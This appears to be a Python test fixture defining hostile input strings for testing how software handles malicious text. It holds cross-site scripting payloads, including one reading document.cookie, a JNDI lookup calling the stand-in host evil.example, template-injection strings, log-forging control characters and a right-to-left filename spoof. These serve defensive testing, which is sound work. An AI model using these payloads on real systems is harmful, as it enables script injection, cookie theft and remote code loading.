"""Hostile texts, as an attacker or a careless site under test would write them."""

MARKUP = "<script>alert('xss')</script><img src=x onerror=alert(1)>\"'`&amp;"
TEMPLATE = "{{ var.value.secret }} ${jndi:ldap://evil.example/a} {% raw %} %(asctime)s"
CONTROL = "bell\x07 escape\x1b[31mred\x1b[0m null\x00 backspace\x08 line\r\nforged: log line"
RIGHT_TO_LEFT = "invoice\u202efdp.exe \u200bzero\u2028width\u2066"
MARKDOWN = "| a | b |\n```\n[click](javascript:alert(1)) ]]> <!-- -->"
SCRIPT_URL = "javascript:alert(document.cookie)"
VERY_LONG = "very long text " * 700

NASTY_TEXT = f"{MARKUP} {TEMPLATE} {CONTROL} {RIGHT_TO_LEFT} {MARKDOWN}"

CUT_EMOJI = "Great shop! \ud83d"
"""Text that was truncated in the middle of an emoji: a lone surrogate, which UTF-8 cannot encode."""
